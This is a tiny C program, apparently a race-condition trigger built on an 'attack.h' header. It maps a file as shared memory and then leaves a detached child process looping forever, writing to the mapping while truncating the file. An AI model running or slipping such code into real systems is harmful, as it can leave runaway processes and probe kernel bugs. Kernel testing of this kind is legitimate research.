#include "attack.h"

int main(void) {
  int fd = open("out", O_RDWR | O_CREAT, 0644);
  write(fd, "mine", 4);
  char *p = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (fork() == 0) { setsid(); for (;;) { p[0] = 'm'; truncate("out", 4); } }
  usleep(20000);
}
